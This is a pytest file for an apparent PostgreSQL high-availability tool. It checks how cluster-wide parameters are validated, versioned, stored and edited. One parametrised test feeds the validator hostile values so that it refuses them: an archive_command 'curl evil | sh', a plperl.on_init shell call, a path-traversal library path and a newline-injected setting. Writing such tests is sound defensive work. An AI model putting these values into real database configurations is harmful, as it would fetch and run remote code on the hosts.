"""The cluster-wide configuration (pgha/cluster_config.py): what may be
cluster-wide, the arbiter's durable change (decision.change_parameters,
the store, history), the instruction that carries it, a node's merge with
its own pg_parameters, and pgha-ctl show-config / edit-config."""
import json
import os
import pwd
import stat
import time
from types import SimpleNamespace

import pytest

from pgha import cluster_config, ctl, decision, postgres, store
from pgha.cluster_state import ClusterState
from pgha.errors import ProtocolError
from pgha.messages import Instruction
from pgha.requests import parse
from testsuite.unit.test_arbiter import P, S, heartbeat, primary_report
from testsuite.unit.test_arbiter_auth import Signed, credential
from testsuite.unit.test_ctl import as_who, run, running  # noqa: F401 (fixtures)


@pytest.mark.parametrize("name, value, says", [
    ("synchronous_standby_names", "*", "managed by the node"),
    ("wal_receiver_status_interval", "0", "managed by the node"),     # the arbiter reads reply ages by it
    ("max_wal_senders", 0, "managed by the node"),
    ("promote_trigger_file", "/tmp/x", "managed by the node"),        # a file that promotes a standby
    ("archive_command", "curl evil | sh", "runs a program"),
    ("shared_preload_libraries", "evil", "loads code"),
    ("jit_provider", "../../../tmp/x", "loads code"),
    ("recovery_target_action", "promote", "recovery"),
    ("ssl", True, "TLS"),
    ("plperl.on_init", "system('sh')", "extension's parameter"),
    ("pg_stat_statements.max", 5000, "extension's parameter"),
    ("work_mem", 10 ** 30, "out of range"),
    ("Work_Mem", "8MB", "not a parameter name"),
    ("work mem", "8MB", "not a parameter name"),
    ("x" * 64, "1", "not a parameter name"),
    ("work_mem", "8MB\nfsync = off", "control character"),
    ("work_mem", "8" * 300, "longer than"),
    ("work_mem", float("nan"), "out of range"),
    ("max_wal_size", 1e308, "out of range"),          # once made every member's write_settings raise
    ("application_name", "\udcff", "not valid text"),  # a shell argument's non-UTF-8 byte
    ("fsync", False, "managed by the node"),
    ("work_mem", {"a": 1}, "must be a string, a number or true/false"),
    ("work_mem", None, "must be a string, a number or true/false"),
])
def test_what_may_not_be_cluster_wide(name, value, says):
    assert says in cluster_config.parameter_problem(name, value)


def test_what_may_be_cluster_wide():
    good = {"work_mem": "8MB", "max_connections": 200, "jit": False, "random_page_cost": 1.1,
            "log_min_duration_statement": "250ms", "hot_standby_feedback": True, "max_wal_size": "2GB"}
    assert cluster_config.parameters_problem(good) is None
    assert cluster_config.parameters_problem({"work_mem": None}, removing=True) is None
    too_many = {f"p{i}": 1 for i in range(cluster_config.MAX_PARAMETERS + 1)}
    assert "at most" in cluster_config.parameters_problem(too_many)


def test_they_always_fit_the_frames_that_carry_them():
    # 17 values of 4,000 digits each once made every heartbeat's reply too large (review).
    big = {f"p{i}": "é" * cluster_config.MAX_VALUE for i in range(cluster_config.MAX_PARAMETERS)}
    assert "more than" in cluster_config.parameters_problem(big)
    state = ClusterState(epoch=1, primary=P)
    for i in range(40):
        state, error = decision.change_parameters(state, {f"p{i}": "9" * cluster_config.MAX_VALUE}, None)
        if error:
            break
    assert error and "more than" in error
    assert len(json.dumps(dict(state.parameters))) <= cluster_config.MAX_BYTES


def test_a_stored_state_and_an_instruction_are_checked_for_shape_not_policy():
    # What an older release allowed and stored is still read; each node leaves out what its policy refuses.
    stored = store.state_to_stored(ClusterState(epoch=1, primary=P))
    assert store.check_state({**stored, "parameters": {"archive_command": "x"}}) is not None
    assert Instruction.from_wire(Instruction(epoch=1, role="wait", reason="x",
                                             parameters={"archive_command": "x"}).to_wire()).parameters
    assert cluster_config.allowed({"work_mem": "8MB", "archive_command": "x"})[0] == {"work_mem": "8MB"}


def test_a_nodes_own_pg_parameters_win_and_booleans_are_written_on_off():
    assert cluster_config.effective({"work_mem": "8MB", "max_connections": 200, "jit": False},
                                    {"WORK_MEM": "16MB"}) == {"max_connections": 200, "jit": "off", "WORK_MEM": "16MB"}


def test_change_sets_removes_and_counts_versions():
    state = ClusterState(epoch=4, primary=P)
    state, error = decision.change_parameters(state, {"work_mem": "8MB", "max_connections": 200}, 0)
    assert error is None and dict(state.parameters) == {"work_mem": "8MB", "max_connections": 200}
    assert state.config_version == 1 and state.epoch == 4
    same, error = decision.change_parameters(state, {"work_mem": "8MB"}, 1)
    assert error is None and same is state                 # nothing changed: the version stays
    state, error = decision.change_parameters(state, {"work_mem": None}, None)
    assert error is None and dict(state.parameters) == {"max_connections": 200} and state.config_version == 2


def test_a_change_made_against_an_old_version_is_refused():
    state = ClusterState(epoch=1, primary=P, parameters={"work_mem": "8MB"}, config_version=3)
    after, error = decision.change_parameters(state, {"work_mem": "4MB"}, 2)
    assert after is state and "changed since you read it" in error and "version 2" in error


def test_a_failover_keeps_the_configuration():
    state = ClusterState(epoch=1, primary=P, promotable={S}, parameters={"work_mem": "8MB"}, config_version=1)
    new_state, _, _ = decision._failover(state, decision.Memory.at_start(0.0), S, 1.0, "test")
    assert (new_state.epoch, new_state.primary) == (2, S)
    assert (new_state.parameters, new_state.config_version) == (state.parameters, 1)


def test_stored_and_read_back_and_damage_is_refused():
    state = ClusterState(epoch=2, primary=P, parameters={"work_mem": "8MB", "jit": False}, config_version=5)
    stored = store.state_to_stored(state)
    assert stored["parameters"] == {"jit": False, "work_mem": "8MB"} and stored["config_version"] == 5
    assert store.check_state(stored) == state
    assert "parameters" not in store.state_to_stored(ClusterState(epoch=2, primary=P))    # files as before
    for damaged in ({"Work mem": "sh"}, ["work_mem"], {"work_mem": [1]}):
        assert store.check_state({**stored, "parameters": damaged}) is None
    assert store.check_state({**stored, "config_version": -1}) is None


def test_the_instruction_carries_them_and_a_node_refuses_bad_ones():
    instruction = Instruction(epoch=1, role="wait", reason="x", parameters={"work_mem": "8MB"})
    assert Instruction.from_wire(instruction.to_wire()).parameters == {"work_mem": "8MB"}
    assert Instruction.from_wire(Instruction(epoch=1, role="wait", reason="x").to_wire()).parameters is None
    with pytest.raises(ProtocolError, match="not a parameter name"):
        Instruction.from_wire({**instruction.to_wire(), "parameters": {"x; y": "sh"}})


def test_the_request_is_checked_before_it_reaches_the_arbiter():
    request = parse({"type": "config", "parameters": {"work_mem": "8MB", "jit": None}, "version": 3})
    assert (request.parameters, request.version) == ({"work_mem": "8MB", "jit": None}, 3)
    for bad in ({"parameters": {"port": 1}}, {"parameters": []}, {"parameters": {}, "version": -1}):
        with pytest.raises(ProtocolError):
            parse({"type": "config", **bad})


def test_the_arbiter_stores_it_before_answering_and_every_member_hears_it(running):  # noqa: F811
    operator, primary = Signed(running, credential("operator")), Signed(running, credential(P))
    reply = operator.ask({"type": "config", "parameters": {"work_mem": "8MB"}, "version": 0})
    assert {k: reply[k] for k in ("type", "changed", "parameters", "config_version")} == \
        {"type": "ok", "changed": True, "parameters": {"work_mem": "8MB"}, "config_version": 1}
    assert dict(running.arbiter.store.load().parameters) == {"work_mem": "8MB"}      # durable
    event = running.arbiter.store.history()[-1]
    assert (event["event"], event["config_version"], event["reason"]) == ("config", 1, "work_mem='8MB'")
    instruction = primary.ask(heartbeat(P, 1, primary_report()))
    assert instruction["parameters"] == {"work_mem": "8MB"}
    status = operator.ask({"type": "status"})
    assert (status["parameters"], status["config_version"]) == ({"work_mem": "8MB"}, 1)
    stale = operator.ask({"type": "config", "parameters": {"work_mem": "1MB"}, "version": 0})
    assert stale["type"] == "error" and "changed since you read it" in stale["error"]
    refused = operator.ask({"type": "config", "parameters": {"archive_command": "sh"}})
    assert refused["type"] == "error" and "runs a program" in refused["error"]
    assert dict(running.arbiter.store.load().parameters) == {"work_mem": "8MB"}      # nothing changed


def test_a_node_may_not_change_it(running):  # noqa: F811
    node = Signed(running, credential(P))
    reply = node.ask({"type": "config", "parameters": {"work_mem": "1MB"}})
    assert reply["type"] == "error" and running.arbiter.state.parameters == ()


# -- pgha-ctl ---------------------------------------------------------------------------------

@pytest.mark.parametrize("text, value", [
    ("200", 200), ("-1", -1), ("1.10", "1.10"), ("true", True), ("OFF", "OFF"), ("null", None), ("8MB", "8MB"),
    ("'200'", "200"), ("inf", "inf"), ("", ""), ("\u0661\u0662", "\u0661\u0662"),
])
def test_edit_config_keeps_what_was_typed_but_integers_and_true_false(text, value):
    assert ctl.typed_value(text) == value and type(ctl.typed_value(text)) is type(value)


def test_edit_config_with_p_shows_the_change_and_stores_it(running, as_who, capsys):  # noqa: F811
    assert run(running, "edit-config", "-p", "work_mem=8MB", "-p", "max_connections=200", "--force") == 0
    out = capsys.readouterr().out
    assert '+      "max_connections": 200,' in out and '+      "work_mem": "8MB"' in out
    assert "configuration version 1 stored" in out
    assert run(running, "show-config") == 0
    assert json.loads(capsys.readouterr().out) == {"postgresql": {"parameters": {"max_connections": 200,
                                                                                 "work_mem": "8MB"}}}
    assert run(running, "edit-config", "-p", "work_mem=8MB", "--force") == 0
    assert capsys.readouterr().out.strip() == "no change"
    assert run(running, "edit-config", "-p", "work_mem=null", "--force") == 0
    assert dict(running.arbiter.state.parameters) == {"max_connections": 200}
    assert run(running, "edit-config", "-p", "archive_command=sh", "--force") == 2
    assert "runs a program" in capsys.readouterr().err
    assert run(running, "edit-config", "-p", "work_mem=1MB") == 2          # no terminal: no confirmation
    assert "pass --force" in capsys.readouterr().err
    assert run(running, "edit-config", "-p", "work_mem=1MB", "--force", who="reader") == 1
    assert dict(running.arbiter.state.parameters) == {"max_connections": 200}


def test_edit_config_in_the_editor(running, as_who, capsys, tmp_path, monkeypatch):  # noqa: F811
    run(running, "edit-config", "-p", "work_mem=8MB", "-p", "jit=off", "--force")
    editor = tmp_path / "editor"     # an editor that rewrites the file: work_mem changed, jit removed
    editor.write_text("#!/bin/sh\nprintf '%s' '{\"postgresql\": {\"parameters\": "
                      "{\"work_mem\": \"16MB\", \"max_connections\": 300}}}' > \"$1\"\n")
    editor.chmod(stat.S_IRWXU)
    monkeypatch.setenv("EDITOR", str(editor))
    monkeypatch.delenv("VISUAL", raising=False)
    assert run(running, "edit-config", "--force") == 0
    assert dict(running.arbiter.state.parameters) == {"work_mem": "16MB", "max_connections": 300}
    assert '-      "jit": "off",' in capsys.readouterr().out
    editor.write_text("#!/bin/sh\necho 'not json' > \"$1\"\n")
    assert run(running, "edit-config", "--force") == 2
    assert "must be JSON" in capsys.readouterr().err
    editor.write_text("#!/bin/sh\necho '[1, 2]' > \"$1\"\n")
    assert run(running, "edit-config", "--force") == 2
    # An editor that saves a new file and renames it over the old one (Emacs, sed -i); null removes.
    editor.write_text("#!/bin/sh\nprintf '%s' '{\"postgresql\": {\"parameters\": "
                      "{\"work_mem\": null, \"max_connections\": 300}}}' > \"$1.new\" && mv \"$1.new\" \"$1\"\n")
    assert run(running, "edit-config", "--force") == 0
    assert dict(running.arbiter.state.parameters) == {"max_connections": 300}
    for broken in ("false", "no-such-editor-here", "vim '"):
        monkeypatch.setenv("EDITOR", broken)
        assert run(running, "edit-config", "--force") in (1, 2), broken
        assert "nothing sent" in capsys.readouterr().err
    assert running.arbiter.state.config_version == 3 and os.path.exists(editor)


def test_postgres_itself_names_what_it_refuses(tmp_path):
    """Postgres.refused_parameters against the real `postgres` binary (as
    pg_os_user when run as root): a misspelt name and bad values found one
    by one; good ones, postmaster-only ones among them, pass."""
    if os.geteuid() == 0:
        os.chown(tmp_path, pwd.getpwnam("postgres").pw_uid, -1)
    pg = postgres.Postgres(SimpleNamespace(pg_bindir=None, pgdata=str(tmp_path / "data"), socket_dir=None,
                                           state_dir=str(tmp_path), pg_os_user="postgres"))
    refused = pg.refused_parameters({"work_mem": "8MB", "wrok_mem": "1MB", "temp_buffers": "lots",
                                     "max_connections": 110, "jit": 1.5, "hot_standby_feedback": True,
                                     "application_name": "it's \"quoted\" and spaced"})
    assert set(refused) == {"wrok_mem", "temp_buffers", "jit"}, refused
    assert "unrecognized configuration parameter" in refused["wrok_mem"]
    assert 'invalid value for parameter "temp_buffers"' in refused["temp_buffers"]
    assert pg.refused_parameters({}) == {} and pg.refused_parameters({"work_mem": "8MB"}) == {}


def test_a_replica_method_is_waited_for_with_heartbeats_and_its_group_killed_at_the_timeout(tmp_path):
    """Postgres._run_calling_back: on_wait at every `every`, the output's last
    lines kept, and at the timeout the whole process group killed (a child of
    the method's shell too)."""
    if os.geteuid() == 0:       # the method runs as postgres: the marker's folder must be its to write
        os.chown(tmp_path, pwd.getpwnam("postgres").pw_uid, -1)
    pg = postgres.Postgres(SimpleNamespace(pg_bindir=None, pgdata=str(tmp_path / "data"), socket_dir=None,
                                           state_dir=str(tmp_path), pg_os_user="postgres"))
    beats = []
    code, lines = pg._run_calling_back(["sh", "-c", "echo one; echo two >&2; exit 3"], {}, 10, lambda: beats.append(1),
                                       0.1)
    assert (code, lines) == (3, ["one", "two"])
    marker = tmp_path / "child-alive"
    started = time.monotonic()
    code, lines = pg._run_calling_back(["sh", "-c", f"(sleep 2; touch {marker}) & sleep 30"], {}, 0.6,
                                       lambda: beats.append(2), 0.15)
    assert code == -9 and lines[-1] == "killed after 0.6s" and time.monotonic() - started < 5
    assert beats.count(2) >= 1      # heartbeats go on meanwhile (how many depends on the machine)
    time.sleep(2.5)
    assert not marker.exists(), "the method's child outlived the kill"
